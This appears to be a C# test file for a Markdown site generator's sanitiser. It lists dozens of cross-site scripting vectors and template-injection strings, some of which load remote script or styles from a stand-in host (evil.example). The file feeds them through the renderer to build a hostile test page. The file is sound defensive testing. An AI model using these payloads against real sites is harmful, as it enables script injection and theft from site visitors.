namespace Mentoring.Site.Tests.Safety;

/// <summary>Script, markup and template injection as content can carry it.</summary>
internal static class HostilePayloads
{
    /// <summary>
    /// Appended to every text value of the hostile site (titles, summaries, tags, data, site.yml): markup a browser
    /// would run if it were written unescaped, and template syntax that must stay text.
    /// </summary>
    public const string Text = " <script>alert('t')</script><img src=x onerror=alert(1)><svg onload=alert(2)><a href=\"javascript:alert(3)\">j</a>\"'><iframe src=javascript:alert(4)>{{ site.school.email }}{% if true %}да{% end %}&amp;";

    /// <summary>The template expression of <see cref="Text"/>: a page must show it literally.</summary>
    public const string TemplateExpression = "{{ site.school.email }}";

    /// <summary>Each on its own: raw HTML and Markdown links hiding script in every known way.</summary>
    public static readonly string[] MarkdownVectors =
    [
        // Script elements, however written.
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<<script>alert(1);//<</script>",
        "<script\n>alert(1)</script\n>",
        "<svg><script>alert(1)</script></svg>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><script>alert(1)</script></textarea>",
        "<xmp><script>alert(1)</script></xmp>",
        "<!--<script>alert(1)</script>-->",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",

        // Event handlers.
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img src=x onerror\n=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<input type=image src=x onerror=alert(1)>",
        "<p id=\"x\" class=\"y\" onclick=\"alert(1)\">x</p>",
        "<a href=\"#\" onmouseover=\"alert(1)\">x</a>",

        // Frames, plugins, base, refresh, forms.
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",

        // Script URLs in raw HTML, hidden with case, entities, whitespace and controls.
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
        "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"VBScript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+\">",
        "<img srcset=\"x.png 1x, javascript:alert(1) 2x\">",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
        "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
        "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",

        // Style.
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div STYLE=\"xss:expr/**/ession(alert(1))\">x</div>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"background:url(&quot;javascript:alert(1)&quot;)\">x</div>",
        "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",

        // Markdown links and images.
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x]( javascript:alert(1) )",
        "[x](<javascript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](java&#x09;script:alert(1))",
        "[x](javascript\\:alert(1))",
        "[x](javascript://%0Aalert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "<vbscript:msgbox(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x][r]\n\n[r]: <data:text/html,<script>alert(1)</script>>",
        "[x](https://example.org/\"onmouseover=\"alert(1))",
        "[x](https://example.org \"\\\" onmouseover=\\\"alert(1)\")",
        "![x\" onerror=\"alert(1)](https://example.org/a.png)",
        "[<img src=x onerror=alert(1)>](https://example.org)",
        "www.example.org/\"onmouseover=alert(1)//",
        "https://example.org/<script>alert(1)</script>",

        // Markup inside Markdown constructs.
        "# <img src=x onerror=alert(1)> Заголовок",
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
        "Текст[^1]\n\n[^1]: <script>alert(1)</script>",
        "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| 1 | 2 |",
        "- [ ] <svg onload=alert(1)>",
        "*<img src=x onerror=alert(1)>*",

        // A link to an anchor whose id (kept by the sanitiser) carries a quote: the link must not break out of href.
        "<span id='z\"onmouseover=alert(1)//'>цель</span> [якорь](<#z\"onmouseover=alert(1)//>)",

        // Template syntax: text, never executed.
        "{{ site.school.email }} {% for x in site %}{{ x }}{% end %} {{ include 'partials/nav.html' }}",
    ];

    /// <summary>The last paragraph of <see cref="BuildableBody"/>: when a page shows it, no vector swallowed the rest.</summary>
    public const string EndMarker = "Конец проверочного текста.";

    /// <summary>
    /// The vectors that keep a page valid (no diagnostics that stop the build) and do not swallow what follows them
    /// (an unclosed &lt;math&gt; or &lt;style&gt; makes the sanitiser drop the rest of the page, which is safe but would hide the
    /// vectors after it): the body of the hostile site's pages and practices. Every vector is checked by the renderer
    /// alone as well. Images load from an external address, as a relative "x" would be a broken link (an error, rightly).
    /// </summary>
    public static string BuildableBody { get; } = CreateBuildableBody();

    private static string CreateBuildableBody()
    {
        var renderer = new Mentoring.Site.Markdown.MarkdownRenderer();
        var kept = new List<string>();
        foreach (var vector in MarkdownVectors.Where(v => !v.Contains("[r]", StringComparison.Ordinal) && !v.StartsWith('#')))
        {
            var v = System.Text.RegularExpressions.Regex.Replace(vector, "(?i)src=x\\b", "src=https://example.org/x.png");
            var bag = new Mentoring.Engine.DiagnosticBag();
            if (renderer.Render(v + "\n\n" + EndMarker + "\n", "a.md", 1, bag).Html.Contains(EndMarker, StringComparison.Ordinal) && !bag.HasErrors)
            {
                kept.Add(v);
            }
        }

        return "## Атака\n\n" + string.Join("\n\n", kept) + "\n\n" + EndMarker + "\n";
    }
}
